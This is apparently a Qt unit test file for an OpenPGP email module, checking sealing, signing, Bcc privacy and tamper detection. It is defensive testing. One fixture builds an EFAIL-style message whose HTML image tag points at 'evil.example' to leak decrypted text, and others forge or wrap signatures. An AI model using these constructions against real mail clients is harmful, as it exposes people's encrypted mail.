// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/crypto/engine.h"
#include "core/crypto/key_book.h"
#include "core/crypto/open_letter.h"
#include "core/crypto/seal_letter.h"
#include "core/crypto/seal_stream.h"
#include "core/crypto/sealed_draft.h"
#include "core/mime/parse.h"
#include "tests/crypto/fake_provider.h"
#include "tests/support/task_value.h"

#include <QBuffer>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace sobre;
using namespace sobre::crypto;
using namespace sobre::tests;
using plugin::CryptoKey;

namespace {

const QString Uno = u"uno@one.example"_s;
const QString Dos = u"dos@two.example"_s;
const QString Tres = u"tres@three.example"_s;
const QString Secreto = u"secreto@four.example"_s;

mime::Draft draftTo(const QStringList &to, const QStringList &bcc = {})
{
    mime::Draft draft;
    draft.from = {u"Uno"_s, Uno};
    for (const QString &address : to)
        draft.to.append({{}, address});
    for (const QString &address : bcc)
        draft.bcc.append({{}, address});
    draft.subject = u"The harvest, año 2026"_s;
    draft.text = u"Line one  \nFrom here on\n--=20\nThe secret is saffron."_s;
    draft.attachments.append(mime::OutgoingAttachment::fromBytes(u"list.bin"_s, "application/x-list", QByteArray(3000, 'x')));
    return draft;
}

QByteArray octetsOf(const ReadyLetter &letter)
{
    letter.octets->seek(0);
    return letter.octets->readAll();
}

} // namespace

class TestSealAndOpen : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void init();
    void cleanup();
    void aSealedLetterIsOpenedAndIsByItsSigner();
    void theOutsideTellsNothingOfTheInside();
    void whoGetsACopyInSecretIsInNoOther();
    void nothingIsSealedWithoutAKeyForEverybody();
    void aSignedLetterFitsAsItWasWritten();
    void whatTheProtectedHeaderSaysIsWhatCounts();
    void anyChangedOctetOfASignedPartIsSeen();
    void aBlankSignatureIsABrokenOneAndNobodyIsAsked();
    void aChangedOctetInTheEnvelopeShowsNothing();
    void everyFailureHasItsOwnVerdict_data();
    void everyFailureHasItsOwnVerdict();
    void anEngineThatStaysSilentIsMissing();
    void anEnvelopeThatIsNotTheWholeIsNeverOpened_data();
    void anEnvelopeThatIsNotTheWholeIsNeverOpened();
    void aFooterUnderASignedLetterIsNotSigned();
    void onlyPartsThatWereCheckedAreGood();
    void anInnerSubjectCountsOnlyInTheProtectedRoot();
    void aDraftIsSealedToItsWriterAlone();
    void aFileThatCannotBeReadStopsTheSealing();
    void aLargeLetterNeedsNoMuchMemoryAndNoPlainFile();
    void givingUpInTheMiddleLeavesNothing();

private:
    SealedLetters sealed(const mime::Draft &draft, bool sign = true, bool seal = true);
    OpenedLetter opened(const QByteArray &letter, bool mayAsk = false);
    /// Sealed to Uno, signed in the envelope by the key of these digits; none: not signed. Dated now.
    QByteArray envelopeAround(const QByteArray &inside, QChar signer = {});

    std::unique_ptr<FakeProvider> m_fake;
    std::unique_ptr<plugin::GuardedProvider> m_guard;
    std::unique_ptr<Engine> m_engine;
    std::unique_ptr<KeyBook> m_keys;
    QTemporaryDir m_directory;
};

void TestSealAndOpen::init()
{
    m_fake = std::make_unique<FakeProvider>();
    m_guard = std::make_unique<plugin::GuardedProvider>(*m_fake, u"fake"_s);
    m_engine = std::make_unique<Engine>();
    m_engine->setProviders({m_guard.get()});
    m_keys = std::make_unique<KeyBook>(*m_engine);
    m_fake->addKey(Uno, '1', CryptoKey::HasSecret, plugin::Validity::Ultimate);
    m_fake->addKey(Dos, '2');
    m_fake->addKey(Tres, '3');
    m_fake->addKey(Secreto, '4');
}

void TestSealAndOpen::cleanup()
{
    m_keys.reset();
    m_engine.reset();
    m_guard.reset();
    m_fake.reset();
}

SealedLetters TestSealAndOpen::sealed(const mime::Draft &draft, bool sign, bool seal)
{
    const auto wish = valueOf(wishFor(draft, sign, seal, m_directory.path(), *m_keys));
    if (!wish)
        qFatal("no wish: %s", qPrintable(wish.error().detail));
    auto letters = valueOf(sealLetter(draft, *wish, *m_engine));
    if (!letters)
        qFatal("not sealed: %s", qPrintable(letters.error().detail));
    return *letters;
}

OpenedLetter TestSealAndOpen::opened(const QByteArray &letter, bool mayAsk)
{
    auto out = valueOf(openLetter(sourceOf(letter), mayAsk, *m_engine, *m_keys));
    if (!out)
        qFatal("not opened: %s", qPrintable(out.error().detail));
    return *out;
}

QByteArray TestSealAndOpen::envelopeAround(const QByteArray &inside, QChar signer)
{
    Sealing sealing;
    sealing.header = "From: uno@one.example\r\nTo: dos@two.example\r\nSubject: ...\r\nDate: "
        + QDateTime::currentDateTimeUtc().toString(Qt::RFC2822Date).toLatin1() + "\r\n";
    sealing.write = [inside](QIODevice &out) -> Result<> {
        out.write(inside);
        return {};
    };
    sealing.recipients = {QString(40, u'1')};
    if (!signer.isNull())
        sealing.signers = {QString(40, signer)};
    sealing.directory = m_directory.path();
    const auto device = valueOf(sealStream(sealing, *m_engine));
    if (!device)
        qFatal("not sealed: %s", qPrintable(device.error().detail));
    (*device)->seek(0);
    return (*device)->readAll();
}

void TestSealAndOpen::aSealedLetterIsOpenedAndIsByItsSigner()
{
    const mime::Draft draft = draftTo({Dos});
    const SealedLetters letters = sealed(draft);
    QCOMPARE(letters.size(), 1);
    const OpenedLetter letter = opened(octetsOf(letters[0]));
    QCOMPARE(wordFor(letter.judgement.verdict), "sealed-and-signed");
    QVERIFY(letter.judgement.checked);
    QCOMPARE(letter.judgement.address, Uno);
    QCOMPARE(letter.message.subject, draft.subject);
    QCOMPARE(letter.outerSubject, u"..."_s);
    QVERIFY(letter.message.text.contains(u"The secret is saffron."_s));
    QCOMPARE(letter.message.from.value(0).address, Uno);
    QCOMPARE(letter.message.attachments.size(), 1);
    QBuffer inside;
    inside.setData(letter.octets);
    inside.open(QIODevice::ReadOnly);
    QBuffer file;
    file.open(QIODevice::WriteOnly);
    QVERIFY(mime::writePart(inside, letter.message.attachments[0].path, file));
    QCOMPARE(file.data(), QByteArray(3000, 'x'));
    QCOMPARE(letters[0].envelope.recipients, QList<QByteArray> {Dos.toUtf8()});
    QCOMPARE(letter.judgement.sealedFor, (QStringList {QString(40, u'2'), QString(40, u'1')}));
}

void TestSealAndOpen::theOutsideTellsNothingOfTheInside()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos})).value(0));
    for (const char *word : {"saffron", "harvest", "list.bin", "x-list"})
        QVERIFY2(!letter.contains(word), word);
    QVERIFY(letter.contains("\r\nSubject: ...\r\n"));
    QVERIFY(!letter.contains("multipart/mixed"));
    QVERIFY(!QByteArray(letter).replace("\r\n", "").contains('\n'));
    const FakeInside inside = fakeOpen(letter);
    QVERIFY(inside.octets.contains("hp=\"cipher\""));
    QVERIFY(inside.octets.contains("HP-Outer: Subject: ...\r\n"));
    QVERIFY(inside.octets.contains("\r\nSubject: "));
    QVERIFY(!inside.octets.contains("MIME-Version"));
}

void TestSealAndOpen::whoGetsACopyInSecretIsInNoOther()
{
    const SealedLetters letters = sealed(draftTo({Dos}, {Secreto, Tres}));
    QCOMPARE(letters.size(), 3);
    const QStringList owners {QString(40, u'2'), QString(40, u'4'), QString(40, u'3')};
    for (qsizetype at = 0; at < letters.size(); ++at) {
        const QByteArray octets = octetsOf(letters[at]);
        const FakeInside inside = fakeOpen(octets);
        QCOMPARE(inside.recipients, (QStringList {owners[at], QString(40, u'1')}));
        for (const QString &secret : {Secreto, Tres}) {
            QVERIFY(!octets.contains(secret.toUtf8()));
            QVERIFY(!inside.octets.contains(secret.toUtf8()));
        }
    }
    QCOMPARE(letters[0].envelope.recipients, QList<QByteArray> {Dos.toUtf8()});
    QCOMPARE(letters[1].envelope.recipients, QList<QByteArray> {Secreto.toUtf8()});
    QCOMPARE(letters[2].envelope.recipients, QList<QByteArray> {Tres.toUtf8()});
    QCOMPARE(opened(octetsOf(letters[0])).message.messageId, opened(octetsOf(letters[2])).message.messageId);
    QCOMPARE(sealed(draftTo({}, {Secreto})).size(), 1);
}

void TestSealAndOpen::nothingIsSealedWithoutAKeyForEverybody()
{
    const auto wish = valueOf(wishFor(draftTo({Dos, u"nadie@five.example"_s}), true, true, m_directory.path(), *m_keys));
    QVERIFY(!wish);
    QCOMPARE(wish.error().kind, MailError::Kind::NoKey);
    QCOMPARE(wish.error().detail, u"nadie@five.example"_s);
    SealingWish forged {.sign = true, .seal = true, .signer = QString(40, u'1'), .recipients = {}, .directory = m_directory.path()};
    QVERIFY(!valueOf(sealLetter(draftTo({Dos}), forged, *m_engine)));
    mime::Draft foreign = draftTo({Dos});
    foreign.from.address = Dos; // a key, but no secret
    QCOMPARE(valueOf(wishFor(foreign, true, false, m_directory.path(), *m_keys)).error().detail, Dos);
}

void TestSealAndOpen::aSignedLetterFitsAsItWasWritten()
{
    const SealedLetters letters = sealed(draftTo({Dos}, {Secreto}), true, false);
    QCOMPARE(letters.size(), 1);
    QCOMPARE(letters[0].envelope.recipients.size(), 2);
    const QByteArray octets = octetsOf(letters[0]);
    QVERIFY(!octets.contains(Secreto.toUtf8()));
    QVERIFY(octets.contains("micalg=pgp-sha256"));
    for (const QByteArray &line : octets.split('\n'))
        QVERIFY2(!line.endsWith(" \r") && !line.endsWith("\t\r"), line);
    const OpenedLetter letter = opened(octets);
    QCOMPARE(wordFor(letter.judgement.verdict), "signed-checked");
    QCOMPARE(letter.message.subject, u"The harvest, año 2026"_s);
    QVERIFY(letter.message.text.contains(u"saffron"_s));
    QCOMPARE(letter.message.attachments.size(), 1); // the signature is no file of the letter
    QByteArray asFile = octets;
    QCOMPARE(wordFor(opened(asFile.replace("\r\n", "\n")).judgement.verdict), "signed-checked");
}

void TestSealAndOpen::aBlankSignatureIsABrokenOneAndNobodyIsAsked()
{
    const QByteArray octets = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype begin = octets.indexOf("-----BEGIN PGP SIGNATURE");
    const QByteArray after = "-----END PGP SIGNATURE-----";
    const qsizetype end = octets.indexOf(after) + after.size();
    QVERIFY(begin > 0 && end > begin);
    for (const QByteArray &blank : {QByteArray(), QByteArray(" \r\n\t\r\n")}) {
        const QByteArray forged = octets.first(begin) + blank + octets.sliced(end);
        m_fake->asked.clear();
        QCOMPARE(wordFor(opened(forged).judgement.verdict), "bad-signature");
        for (const plugin::CryptoRequest &request : std::as_const(m_fake->asked))
            QVERIFY(request.operation() != plugin::CryptoRequest::Operation::Verify);
        // the same within an envelope that has a good signature of its own
        const QByteArray inside = forged.sliced(forged.indexOf("Content-Type: multipart/signed"));
        QCOMPARE(wordFor(opened(envelopeAround(inside, u'1')).judgement.verdict), "bad-signature");
        QCOMPARE(wordFor(opened(envelopeAround(inside)).judgement.verdict), "bad-signature");
    }
}

void TestSealAndOpen::whatTheProtectedHeaderSaysIsWhatCounts()
{
    const auto date = [](const QDateTime &when) {
        return "Date: " + when.toUTC().toString(Qt::RFC2822Date).toLatin1() + "\r\n";
    };
    const auto verdictWith = [this](const QByteArray &fields) {
        return wordFor(opened(envelopeAround(fields + "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n", u'1')).judgement.verdict);
    };
    const QDateTime now = QDateTime::currentDateTimeUtc();
    const QByteArray uno = "From: uno@one.example\r\n";
    QCOMPARE(verdictWith(uno + date(now)), "sealed-and-signed");
    QCOMPARE(verdictWith("From: uno@one.example, tres@three.example\r\n"), "sender-unclear");
    QCOMPARE(verdictWith(uno + uno), "sender-unclear");
    QCOMPARE(verdictWith("From: \r\n"), "sender-unclear");
    QCOMPARE(verdictWith(uno + date(now.addDays(-3))), "signed-at-other-time"); // the outside says today
    QCOMPARE(verdictWith(uno + "Date: some day\r\n"), "signed-at-other-time");
    const QDateTime earlier = now.addSecs(-1800);
    const OpenedLetter letter = opened(envelopeAround(uno + date(earlier) + "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n", u'1'));
    QVERIFY(letter.judgement.isGood());
    QCOMPARE(letter.message.date.toSecsSinceEpoch(), earlier.toSecsSinceEpoch());
    // And an outside without a Date, or with two, vouches for no time.
    const QByteArray line = date(now);
    const QByteArray plain = envelopeAround("Content-Type: text/plain\r\n\r\nx\r\n", u'1');
    const qsizetype its = plain.indexOf("Date: ");
    QByteArray none = plain;
    none.remove(its, plain.indexOf("\r\n", its) + 2 - its);
    QCOMPARE(wordFor(opened(plain).judgement.verdict), "sealed-and-signed");
    QCOMPARE(wordFor(opened(none).judgement.verdict), "signed-at-other-time");
    QCOMPARE(wordFor(opened(line + plain).judgement.verdict), "signed-at-other-time");
}

void TestSealAndOpen::anyChangedOctetOfASignedPartIsSeen()
{
    mime::Draft draft = draftTo({Dos});
    draft.attachments.clear();
    const QByteArray octets = octetsOf(sealed(draft, true, false).value(0));
    const qsizetype first = octets.indexOf("\r\n--=_") + 2;
    const qsizetype begin = octets.indexOf("\r\n", first) + 2;
    const qsizetype end = octets.indexOf("\r\n--=_", begin);
    QVERIFY(end > begin);
    int seen = 0;
    for (qsizetype at = begin; at < end; at += 7) {
        QByteArray changed = octets;
        changed[at] = changed[at] == 'a' ? 'b' : 'a';
        const Judgement judged = opened(changed).judgement;
        QVERIFY2(!judged.isGood(), QByteArray::number(at));
        seen += judged.verdict == Verdict::BadSignature;
    }
    QVERIFY(seen > 30);
}

void TestSealAndOpen::aChangedOctetInTheEnvelopeShowsNothing()
{
    QByteArray octets = octetsOf(sealed(draftTo({Dos})).value(0));
    const qsizetype at = octets.indexOf("-----END PGP MESSAGE") - 200;
    octets[at] = octets[at] == 'A' ? 'B' : 'A';
    const OpenedLetter letter = opened(octets);
    QCOMPARE(wordFor(letter.judgement.verdict), "sealed-damaged");
    QVERIFY(letter.octets.isEmpty());
    QVERIFY(letter.message.text.isEmpty());
    QVERIFY(letter.message.attachments.isEmpty());
    QCOMPARE(letter.message.subject, u"..."_s);
}

void TestSealAndOpen::everyFailureHasItsOwnVerdict_data()
{
    QTest::addColumn<QByteArray>("how");
    QTest::addColumn<QByteArray>("verdict");
    for (const char *word : {"locked sealed-locked", "closed opening-cancelled", "foreign sealed-no-key",
                             "missing engine-missing", "off plugin-off", "password sealed-with-password"}) {
        const QByteArrayList words = QByteArray(word).split(' ');
        QTest::newRow(words[0]) << words[0] << words[1];
    }
}

void TestSealAndOpen::everyFailureHasItsOwnVerdict()
{
    QFETCH(const QByteArray, how);
    QFETCH(const QByteArray, verdict);
    QByteArray octets = octetsOf(sealed(draftTo({Dos})).value(0));
    if (how == "locked" || how == "closed")
        m_fake->locked = {QString(40, u'1')};
    m_fake->personCloses = how == "closed";
    if (how == "foreign")
        m_fake->keys.removeFirst();
    m_fake->missingEngine = how == "missing";
    m_fake->words = u"gpg was not found"_s;
    if (how == "off")
        m_engine->setProviders({});
    if (how == "password")
        octets.replace("-----BEGIN PGP MESSAGE-----", "-----BEGIN PGP MESSAGE-----\r\nPASSWORD");
    const OpenedLetter letter = opened(octets, how == "closed");
    QCOMPARE(wordFor(letter.judgement.verdict), verdict);
    QVERIFY(letter.message.text.isEmpty());
    QVERIFY(letter.octets.isEmpty());
    QVERIFY(letter.judgement.sealed && !letter.judgement.opened);
    if (how == "missing")
        QCOMPARE(letter.judgement.detail, u"gpg was not found"_s);
    if (how == "locked") { // the person may be asked now
        QCOMPARE(wordFor(opened(octets, true).judgement.verdict), "sealed-and-signed");
    }
}

void TestSealAndOpen::anEngineThatStaysSilentIsMissing()
{
    const QByteArray octets = octetsOf(sealed(draftTo({Dos})).value(0));
    m_fake->neverAnswers = true;
    plugin::GuardedJob::Limits limits;
    limits.silence = std::chrono::milliseconds(200);
    m_engine->setLimits(limits);
    QCOMPARE(wordFor(opened(octets).judgement.verdict), "engine-missing");
}

void TestSealAndOpen::anEnvelopeThatIsNotTheWholeIsNeverOpened_data()
{
    QTest::addColumn<QByteArray>("shape");
    QTest::newRow("between two pieces of HTML") << QByteArray("efail");
    QTest::newRow("beside a text") << QByteArray("beside");
    QTest::newRow("in an attached letter") << QByteArray("attached");
    QTest::newRow("with a third part") << QByteArray("third");
    QTest::newRow("under a signature") << QByteArray("signed");
}

void TestSealAndOpen::anEnvelopeThatIsNotTheWholeIsNeverOpened()
{
    QFETCH(const QByteArray, shape);
    const QByteArray letter = octetsOf(sealed(draftTo({Dos})).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/encrypted");
    const QByteArray entity = letter.sliced(body);
    const QByteArray head = "From: uno@one.example\r\nTo: dos@two.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
    const auto part = [](const QByteArray &octets) { return "--B\r\n" + octets + "\r\n"; };
    const QByteArray mixed = head + "Content-Type: multipart/mixed; boundary=B\r\n\r\n";
    QByteArray octets;
    if (shape == "efail") {
        octets = mixed + part("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/") + part(entity)
            + part("Content-Type: text/html\r\n\r\n\">") + "--B--\r\n";
    } else if (shape == "beside") {
        octets = mixed + part("Content-Type: text/plain\r\n\r\nReply to this") + part(entity) + "--B--\r\n";
    } else if (shape == "attached") {
        octets = mixed + part("Content-Type: message/rfc822\r\n\r\n" + letter) + "--B--\r\n";
    } else if (shape == "third") {
        octets = letter;
        const qsizetype end = octets.lastIndexOf("\r\n--");
        const QByteArray boundary = octets.sliced(end + 4).trimmed().chopped(2);
        octets = octets.first(end) + "\r\n--" + boundary + "\r\nContent-Type: text/html\r\n\r\n<p>hello\r\n--" + boundary + "--\r\n";
    } else {
        octets = head + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=B\r\n\r\n"
            + part(entity) + part("Content-Type: application/pgp-signature\r\n\r\nx") + "--B--\r\n";
    }
    m_fake->asked.clear();
    const OpenedLetter out = opened(octets, true);
    QCOMPARE(wordFor(out.judgement.verdict), "only-part");
    QVERIFY(!out.judgement.isGood());
    QVERIFY(out.octets.isEmpty());
    QVERIFY(!out.message.text.contains(u"saffron"_s));
    for (const plugin::CryptoRequest &request : std::as_const(m_fake->asked))
        QVERIFY(request.operation() != plugin::CryptoRequest::Operation::Decrypt);
}

void TestSealAndOpen::aFooterUnderASignedLetterIsNotSigned()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/signed");
    const QByteArray list = letter.first(body) + "Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n"
        + letter.sliced(body) + "\r\n--LIST\r\nContent-Type: text/plain\r\n\r\nThe list's footer\r\n--LIST--\r\n";
    const OpenedLetter out = opened(list);
    QCOMPARE(wordFor(out.judgement.verdict), "only-part");
    QCOMPARE(out.judgement.signatures.size(), 1);
    QVERIFY(out.judgement.signatures[0].word == SignatureFinding::Word::Good);
    QCOMPARE(out.protection.parts, QList<mime::PartPath> {{0}});
}

void TestSealAndOpen::onlyPartsThatWereCheckedAreGood()
{
    const QByteArray letter = octetsOf(sealed(draftTo({Dos}), true, false).value(0));
    const qsizetype body = letter.indexOf("Content-Type: multipart/signed");
    const QByteArray good = letter.sliced(body);
    const QByteArray three = "Content-Type: multipart/signed; boundary=C; protocol=\"application/pgp-signature\"\r\n\r\n"
                             "--C\r\nContent-Type: text/plain\r\n\r\nforged\r\n--C\r\nContent-Type: text/plain\r\n\r\nx\r\n"
                             "--C\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--C--\r\n";
    QByteArray altered = good;
    altered.replace("saffron", "Saffron");
    const auto goodOf = [&](const QByteArrayList &parts) {
        return opened(letter.first(body) + "Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n"
                      + parts.join("\r\n--LIST\r\n") + "\r\n--LIST--\r\n").goodParts;
    };
    QCOMPARE(goodOf({good, three}), QList<mime::PartPath> {{0}});
    QCOMPARE(goodOf({altered, good}), QList<mime::PartPath> {{1}});
    QCOMPARE(goodOf({good, good, good, good, good}), (QList<mime::PartPath> {{0}, {1}, {2}, {3}})); // the fifth is not asked about
}

void TestSealAndOpen::anInnerSubjectCountsOnlyInTheProtectedRoot()
{
    const auto sealedBy = [this](const QByteArray &inside) {
        const auto write = [inside](QIODevice &out) -> Result<> {
            out.write(inside);
            return {};
        };
        const auto device = valueOf(sealDraft(write, {{u"Uno"_s, Uno}, {}, {}}, QString(40, u'1'), m_directory.path(), *m_engine));
        (*device)->seek(0);
        return opened((*device)->readAll());
    };
    const QByteArray root = "Subject: true\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n\r\nx\r\n";
    QCOMPARE(sealedBy(root).message.subject, u"true"_s);
    QCOMPARE(sealedBy("Subject: not protected\r\nContent-Type: text/plain\r\n\r\nx\r\n").message.subject, u"..."_s);
    QCOMPARE(sealedBy("Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n" + root + "--B--\r\n").message.subject, u"..."_s);
}

void TestSealAndOpen::aDraftIsSealedToItsWriterAlone()
{
    const QByteArray draft = "From: uno@one.example\r\nSubject: plan\r\nX-Sobre-Draft-State: abc\r\n\r\nThe secret is saffron.\r\n";
    m_fake->locked = {QString(40, u'1')};
    const auto write = [draft](QIODevice &out) -> Result<> {
        out.write(draft);
        return {};
    };
    const auto device = valueOf(sealDraft(write, {{u"Uno"_s, Uno}, {{{}, u"not an address"_s}, {{}, Dos}}, u"id@one.example"_s},
                                          QString(40, u'1'), m_directory.path(), *m_engine));
    QVERIFY(device); // without a question, though the key is locked
    const QByteArray octets = (*device)->readAll();
    QVERIFY(!octets.contains("saffron") && !octets.contains("plan") && !octets.contains("Draft-State"));
    QVERIFY(octets.contains("To: dos@two.example"));
    QCOMPARE(fakeOpen(octets).recipients, QStringList {QString(40, u'1')});
    QCOMPARE(valueOf(openDraft(sourceOf(octets), false, *m_engine)).error().kind, MailError::Kind::NotUnlocked);
    QCOMPARE(valueOf(openDraft(sourceOf(octets), true, *m_engine)).value(), draft);
}

void TestSealAndOpen::aFileThatCannotBeReadStopsTheSealing()
{
    mime::Draft draft = draftTo({Dos});
    mime::OutgoingAttachment gone = draft.attachments[0];
    gone.open = [](QString *error) -> std::unique_ptr<QIODevice> {
        *error = u"gone"_s;
        return nullptr;
    };
    draft.attachments.append(gone);
    const auto wish = valueOf(wishFor(draft, true, true, m_directory.path(), *m_keys));
    const auto letters = valueOf(sealLetter(draft, *wish, *m_engine));
    QVERIFY(!letters);
    QCOMPARE(letters.error().kind, MailError::Kind::FileUnreadable);
    QCOMPARE(letters.error().detail, u"gone"_s);
}

void TestSealAndOpen::aLargeLetterNeedsNoMuchMemoryAndNoPlainFile()
{
    mime::Draft draft = draftTo({Dos});
    draft.attachments[0] = mime::OutgoingAttachment::fromBytes(u"big.bin"_s, "application/x-list", QByteArray(20 << 20, 'y'));
    const OpenedLetter letter = opened(octetsOf(sealed(draft).value(0)));
    QCOMPARE(letter.message.attachments.value(0).size, 20 << 20);
}

void TestSealAndOpen::givingUpInTheMiddleLeavesNothing()
{
    m_fake->neverAnswers = true; // and never reads: the writer stands in the pipe
    mime::Draft draft = draftTo({Dos});
    draft.attachments[0] = mime::OutgoingAttachment::fromBytes(u"big.bin"_s, "application/x-list", QByteArray(5 << 20, 'y'));
    SealingWish wish {.sign = true, .seal = true, .signer = QString(40, u'1'), .recipients = {{Dos, QString(40, u'2')}}, .directory = m_directory.path()};
    {
        Task<SealedLetters> task = sealLetter(draft, wish, *m_engine);
        const auto run = [](Task<SealedLetters> *inner) -> Task<> { co_await *inner; };
        Task<> outer = run(&task);
        outer.start();
        QTest::qWait(50);
    }
    QTest::qWait(50);
    QCOMPARE(QDir(m_directory.path()).entryList(QDir::Files).size(), 0);
}

QTEST_GUILESS_MAIN(TestSealAndOpen)
#include "tst_seal_and_open.moc"
